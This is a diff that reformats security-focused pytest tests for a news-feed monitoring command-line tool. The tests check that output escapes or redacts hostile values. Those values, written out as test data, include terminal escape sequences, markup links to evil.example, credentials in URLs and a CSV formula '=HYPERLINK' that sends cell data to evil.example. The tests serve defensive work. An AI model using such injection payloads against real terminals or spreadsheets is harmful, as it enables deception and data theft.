@@ -20,8 +20,8 @@ from typer.testing import CliRunner
 from monitor.cli import app
 from monitor.config import load_settings
 from monitor.store import Store
-from tests.support.chat import ChatServer
 from tests.conftest import PROJECT
+from tests.support.chat import ChatServer
 from tests.support.hostile import HostileServer
 from tests.support.newssite import NewsSite
 from tests.support.notifykit import add_story, rule
@@ -29,9 +29,11 @@ from tests.support.notifykit import add_story, rule
 # Reason phrases a hostile server sends on its status line (h11 accepts any byte but NUL, CR and LF there).
 MARKUP = ["[/x]", "[link=http://evil.example/]click[/link]", "[bold red]alarm[/]", "back\\[/x]"]
 ANSI = "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x07linked\x1b]8;;\x07 \x1b]0;title\x1b\\ bell\x07\x9b2J"
-RAID = ("Police raid scam compound in Poipet",
-        "Police raided an online scam compound in Poipet, Cambodia, on Monday and detained 270 foreign workers. "
-        "The National Committee for Counter Trafficking said the workers had been forced to defraud victims online.")
+RAID = (
+    "Police raid scam compound in Poipet",
+    "Police raided an online scam compound in Poipet, Cambodia, on Monday and detained 270 foreign workers. "
+    "The National Committee for Counter Trafficking said the workers had been forced to defraud victims online.",
+)
 
 
 def invoke(*args: str) -> tuple[int, str, str]:
@@ -42,18 +44,29 @@ def invoke(*args: str) -> tuple[int, str, str]:
 
 def write_config(tmp_path: Path, feeds: dict[str, str]) -> Path:
     path = tmp_path / "config.toml"
-    lines = [f'[database]\nurl = "sqlite:///{tmp_path / "monitor.db"}"',
-             "[fetch]\nallow_private = true\nextract_processes = 1", f'[rules]\npaths = ["{PROJECT / "rules"}"]']
+    lines = [
+        f'[database]\nurl = "sqlite:///{tmp_path / "monitor.db"}"',
+        "[fetch]\nallow_private = true\nextract_processes = 1",
+        f'[rules]\npaths = ["{PROJECT / "rules"}"]',
+    ]
     lines += [f"[[feeds]]\nname = {json.dumps(name)}\nurl = {json.dumps(url)}" for name, url in feeds.items()]
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
     return path
 
 
 @pytest.mark.parametrize("phrase", MARKUP, ids=["close-tag", "link", "style", "escaped-close"])
-def test_markup_in_a_reason_phrase_prints_literally(tmp_path: Path, hostile_server: HostileServer,  # noqa: F811
-                                                    phrase: str) -> None:
-    config = write_config(tmp_path, {"hostile": hostile_server.url(f"/reason/500?text={quote(phrase)}"),
-                                     "healthy": hostile_server.url("/feed.xml")})
+def test_markup_in_a_reason_phrase_prints_literally(
+    tmp_path: Path,
+    hostile_server: HostileServer,  # noqa: F811
+    phrase: str,
+) -> None:
+    config = write_config(
+        tmp_path,
+        {
+            "hostile": hostile_server.url(f"/reason/500?text={quote(phrase)}"),
+            "healthy": hostile_server.url("/feed.xml"),
+        },
+    )
     code, out, err = invoke("--config", str(config), "poll", "--no-deliver")
     assert code == 0, err
     assert f"HTTP 500 {phrase} from" in out and "healthy" in out
@@ -66,10 +79,15 @@ def test_markup_in_a_reason_phrase_prints_literally(tmp_path: Path, hostile_serv
 
 
 def test_escape_sequences_in_a_reason_phrase_never_reach_the_terminal(
-        tmp_path: Path, hostile_server: HostileServer) -> None:  # noqa: F811
+    tmp_path: Path, hostile_server: HostileServer
+) -> None:  # noqa: F811
     config = write_config(tmp_path, {"hostile": hostile_server.url(f"/reason/503?text={quote(ANSI)}")})
-    for args in (["poll", "--no-deliver"], ["feeds", "list"], ["feeds", "list", "-f", "json"],
-                 ["feeds", "list", "-f", "csv"]):
+    for args in (
+        ["poll", "--no-deliver"],
+        ["feeds", "list"],
+        ["feeds", "list", "-f", "json"],
+        ["feeds", "list", "-f", "csv"],
+    ):
         code, out, err = invoke("--config", str(config), *args)
         assert code == (1 if args[0] == "poll" else 0), err  # poll: its only feed failed
         assert not any(c in out for c in "\x1b\x07\x9b\r"), (args, out)
@@ -81,8 +99,7 @@ def test_escape_sequences_in_a_reason_phrase_never_reach_the_terminal(
     assert not any(c in feed["last_error"] for c in "\x1b\x07\x9b\r")
 
 
-def test_a_feed_name_with_markup_and_escapes_prints_as_written(tmp_path: Path,
-                                                               hostile_server: HostileServer) -> None:  # noqa: F811
+def test_a_feed_name_with_markup_and_escapes_prints_as_written(tmp_path: Path, hostile_server: HostileServer) -> None:  # noqa: F811
     name = "[/b]feed\x1b[2J"
     config = write_config(tmp_path, {name: hostile_server.url("/feed.xml")})
     for args in (["poll", "--no-deliver"], ["feeds", "list"], ["feeds", "remove", name]):
@@ -91,10 +108,10 @@ def test_a_feed_name_with_markup_and_escapes_prints_as_written(tmp_path: Path,
         assert "[/b]feed" in out and "\x1b" not in out, (args, out)
 
 
-def test_feed_credentials_never_print_in_any_format(tmp_path: Path,
-                                                   hostile_server: HostileServer) -> None:  # noqa: F811
+def test_feed_credentials_never_print_in_any_format(tmp_path: Path, hostile_server: HostileServer) -> None:  # noqa: F811
     url = hostile_server.url("/reason/401?text=Unauthorized&apikey=K3yValue9876").replace(
-        "http://", "http://alice:S3cretPass@")
+        "http://", "http://alice:S3cretPass@"
+    )
     config = write_config(tmp_path, {"private": url})
     code, out, _ = invoke("--config", str(config), "poll", "--no-deliver")
     assert code == 1 and "private: failed: HTTP 401" in out  # its only feed failed
@@ -109,8 +126,7 @@ def test_feed_credentials_never_print_in_any_format(tmp_path: Path,
     assert feed["url"].startswith("http://***@127.0.0.1:") and "apikey=***" in feed["url"]
 
 
-def test_article_urls_print_without_credentials_and_titles_literally(tmp_path: Path,
-                                                                     news_site: NewsSite) -> None:  # noqa: F811
+def test_article_urls_print_without_credentials_and_titles_literally(tmp_path: Path, news_site: NewsSite) -> None:  # noqa: F811
     link = f"http://bob:Pw0rdValue@127.0.0.1:{news_site.base.rsplit(':', 1)[1]}/news/raid.html?token=T0kenValue77"
     title = f"{RAID[0]} [/x] \x1b]8;;http://evil.example/\x07"
     news_site.raw["/feeds/raw.xml"] = f"""<?xml version="1.0" encoding="utf-8"?>
@@ -132,11 +148,12 @@ def test_article_urls_print_without_credentials_and_titles_literally(tmp_path: P
     assert row["article_url"].startswith("http://127.0.0.1:")  # user info is stripped from links at the edge
 
 
-def test_a_long_hostile_reason_phrase_is_logged_short_and_fast(tmp_path: Path,
-                                                               hostile_server: HostileServer) -> None:  # noqa: F811
+def test_a_long_hostile_reason_phrase_is_logged_short_and_fast(tmp_path: Path, hostile_server: HostileServer) -> None:  # noqa: F811
     """A feed's error reaches the "feed polled" log line; 8 KB of "a-a-a-" took the old redaction about 7 s."""
-    config = write_config(tmp_path, {"hostile": hostile_server.url(f"/reason/503?text={'a-' * 1900}"),
-                                     "healthy": hostile_server.url("/feed.xml")})
+    config = write_config(
+        tmp_path,
+        {"hostile": hostile_server.url(f"/reason/503?text={'a-' * 1900}"), "healthy": hostile_server.url("/feed.xml")},
+    )
     started = time.perf_counter()
     code, out, err = invoke("--config", str(config), "-v", "poll", "--no-deliver")
     assert code == 0, err
@@ -194,25 +211,38 @@ def _mode(path: Path) -> int:
     return stat.S_IMODE(path.stat().st_mode)
 
 
-def test_stored_hostile_values_print_literally_and_without_credentials(tmp_path: Path,
-                                                                       chat_server: ChatServer) -> None:  # noqa: F811
+def test_stored_hostile_values_print_literally_and_without_credentials(tmp_path: Path, chat_server: ChatServer) -> None:  # noqa: F811
     """What the store holds is data, whatever a feed sent: matches and deliveries print it as text in every format."""
     config = tmp_path / "config.toml"
-    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "m.db"}"\n'
-                      f'[channels.desk]\nurls = ["{chat_server.url()}"]\n[[routes]]\nchannels = ["desk"]\n',
-                      encoding="utf-8")
+    config.write_text(
+        f'[database]\nurl = "sqlite:///{tmp_path / "m.db"}"\n'
+        f'[channels.desk]\nurls = ["{chat_server.url()}"]\n[[routes]]\nchannels = ["desk"]\n',
+        encoding="utf-8",
+    )
     settings = load_settings(config)
     raid = rule("kh.raid[/x]", title="Scam [bold]raid[/bold]")
     url = "https://bob:Pw0rdValue@news.example.org/a/1?apikey=K3yValue9876"
     title = "Raid [/x] in\x1b]8;;http://evil.example/\x07 Poipet\x07\u202e\x9b2J\r\nforged line"
     with Store.open(settings.database.url) as store:
-        add_story(store, settings, [raid], feed="Feed [/i]\x1b[2J", url=url, title=title,
-                  text="Police raided a \\scam compound in Poipet [link=http://evil.example/]x[/link].")
+        add_story(
+            store,
+            settings,
+            [raid],
+            feed="Feed [/i]\x1b[2J",
+            url=url,
+            title=title,
+            text="Police raided a \\scam compound in Poipet [link=http://evil.example/]x[/link].",
+        )
     # The store cleans what it inserts; a database an older version wrote may still hold raw values.
     with sqlite3.connect(tmp_path / "m.db") as db:
         db.execute("UPDATE articles SET title = ?, url = ?", (title, url))
-    for args in (["deliveries"], ["deliveries", "-f", "json"], ["matches"], ["matches", "-f", "json"],
-                 ["matches", "-f", "csv"]):
+    for args in (
+        ["deliveries"],
+        ["deliveries", "-f", "json"],
+        ["matches"],
+        ["matches", "-f", "json"],
+        ["matches", "-f", "csv"],
+    ):
         code, out, err = invoke("--config", str(config), *args)
         assert code == 0, (args, err)
         assert not any(c in out for c in "\x1b\x07\r\u202e\x9b"), (args, out)  # JSON escapes them: \\u202e
@@ -228,13 +258,22 @@ def test_stored_hostile_values_print_literally_and_without_credentials(tmp_path:
 def test_feeds_list_shows_failed_entries_and_a_moved_feed(tmp_path: Path) -> None:
     """What the pipeline records about isolated failures reaches the operator: the failed-entry count, the last
     failed entry, where a repeated 301 moved the feed from, and a redirect seen once."""
-    config = write_config(tmp_path, {"wire": "https://user:pw@wire.example/rss", "mekong": "https://mekong.example/rss"})
+    config = write_config(
+        tmp_path, {"wire": "https://user:pw@wire.example/rss", "mekong": "https://mekong.example/rss"}
+    )
     settings = load_settings(config)
     store = Store.open(settings.database.url)
     try:
         wire, mekong = sorted(store.sync_feeds(settings.feeds), key=lambda f: f.name != "wire")
-        store.update_feed_state(wire.id, replace(wire.state, url="https://wire.example/new-rss", failed_entries=2,
-                                                 last_entry_error="guid:g7: RuntimeError: [/x] boom"))
+        store.update_feed_state(
+            wire.id,
+            replace(
+                wire.state,
+                url="https://wire.example/new-rss",
+                failed_entries=2,
+                last_entry_error="guid:g7: RuntimeError: [/x] boom",
+            ),
+        )
         store.update_feed_state(mekong.id, replace(mekong.state, redirect_pending="https://elsewhere.example/rss"))
     finally:
         store.close()
@@ -244,8 +283,10 @@ def test_feeds_list_shows_failed_entries_and_a_moved_feed(tmp_path: Path) -> Non
     assert " 2 " in wire_line and "last failed entry: guid:g7: RuntimeError: [/x] boom" in wire_line
     assert "moved from https://***@wire.example/rss to https://wire.example/new-rss" in wire_line
     assert "pw@" not in out and "redirect to https://elsewhere.example/rss seen once" in out
-    lines = {f["name"]: f for f in map(json.loads, invoke("--config", str(config), "feeds", "list", "-f", "json")[1]
-                                       .splitlines())}
+    lines = {
+        f["name"]: f
+        for f in map(json.loads, invoke("--config", str(config), "feeds", "list", "-f", "json")[1].splitlines())
+    }
     assert lines["wire"]["failed_entries"] == 2 and lines["wire"]["config_url"] == "https://***@wire.example/rss"
     assert lines["mekong"]["redirect_pending"] == "https://elsewhere.example/rss"
 
@@ -256,9 +297,15 @@ def test_csv_output_never_starts_a_cell_with_a_formula(tmp_path: Path, chat_serv
     config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "m.db"}"\n', encoding="utf-8")
     settings = load_settings(config)
     with Store.open(settings.database.url) as store:
-        add_story(store, settings, [rule("kh.raid")], feed="@feed", url="https://news.example.org/a/1",
-                  title='=HYPERLINK("http://evil.example/?"&A1,"Raid in Poipet")',
-                  text="Police raided a scam compound in Poipet.")
+        add_story(
+            store,
+            settings,
+            [rule("kh.raid")],
+            feed="@feed",
+            url="https://news.example.org/a/1",
+            title='=HYPERLINK("http://evil.example/?"&A1,"Raid in Poipet")',
+            text="Police raided a scam compound in Poipet.",
+        )
     code, out, err = invoke("--config", str(config), "matches", "--format", "csv")
     assert code == 0, err
     [row] = csv.DictReader(io.StringIO(out))
